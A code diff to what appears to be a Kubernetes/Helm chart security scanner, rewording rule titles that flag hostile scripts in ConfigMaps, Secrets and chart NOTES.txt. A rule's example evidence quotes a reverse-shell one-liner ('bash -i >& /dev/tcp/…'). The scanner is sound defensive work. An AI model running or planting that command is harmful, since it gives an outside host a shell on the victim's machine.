@@ -41,7 +41,7 @@ var (
 		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, whether a pod mounts them or not. Signs that honest documentation also has count only in scripts.",
 	})
 	ScriptHostileCode = row(Rule{
-		Name: "script-hostile-code", Level: High, Title: "has a script that reaches beyond a container",
+		Name: "script-hostile-code", Level: High, Title: "has a script that attacks the host or other machines",
 		Why:    whyAttack,
 		Reduce: "Ask the publisher what the script is for.",
 		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, for what pod-hostile-code finds in commands. Content of Secrets is never shown.",
@@ -64,7 +64,7 @@ var (
 		Why:     "Helm prints the notes after an install, and a user who follows them runs the commands with their own permissions.",
 		Reduce:  "Do not run the command; ask the publisher what it is for.",
 		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hostile-code finds in commands. This program does not print them.",
-		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: opens a shell for another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
+		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: opens a reverse shell to another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
 	})
 	NotesHiddenCode = row(Rule{
 		Name: "notes-hidden-code", Level: High, Title: "prints notes with hidden content",
